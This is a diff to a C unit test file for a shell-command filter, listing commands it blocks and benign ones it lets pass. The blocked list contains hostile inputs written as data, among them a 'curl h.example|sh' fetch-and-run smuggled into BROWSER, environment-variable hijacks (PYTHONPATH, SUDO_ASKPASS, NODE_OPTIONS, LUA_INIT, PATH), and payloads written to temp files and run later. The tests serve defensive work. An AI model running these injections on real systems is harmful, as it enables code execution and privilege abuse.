@@ -25,7 +25,6 @@ static void a_variable_a_program_runs_or_loads_blocks(void **state)
 	    {"sudo -E PYTHONPATH=", "/tmp/upl/mods", " python3 /opt/job.py"},
 	    {"BROWSER='", "bash -c \"curl h.example|sh\"", "' xdg-open https://example.org"},
 	    {"SUDO_ASKPASS=", "/tmp/x/pw.sh", " sudo -A whoami"},
-	    {"ENV=", "/tmp/x/rc.sh", " sh -i"},
 	    {"declare -x NODE_OPTIONS='", "--import=/tmp/x.mjs", "'; npm test"},
 	    {"LUA_INIT='", "os.execute(\"id\")", "' lua script.lua"},
 	    {"PATH=", "/tmp/upl/bin", ":$PATH make"},
@@ -147,12 +146,14 @@ static void a_file_run_later_or_by_another_name_blocks(void **state)
 	    {"echo '", "g; id", "' > /tmp/d; nohup bash /tmp/d &"},
 	    {"echo '", "h; id", "' | dd of=/tmp/e status=none; sh /tmp/e"},
 	    {"echo '", "i; id", "' > /tmp/f; eval `cat /tmp/f`"},
+	    {"echo '", "p; id", "' > /tmp/q; sudo -u www sh /tmp/q"},
 	};
 	static const char *const passes[][3] = {
 	    {"echo '", "j; k", "' >> /srv/app/journal.log"},
 	    {"echo '", "l; m", "' > /tmp/g; cp /tmp/g /srv/archive/"},
 	    {"echo '", "export EDITOR=nano", "' >> ~/.bashrc"},
 	    {"echo '", "n; o", "' | dd of=/tmp/h; wc -c /tmp/h"},
+	    {"echo '", "r; s", "' > /tmp/t.txt; grep -c sh /tmp/t.txt"},
 	};
 
 	(void)state;
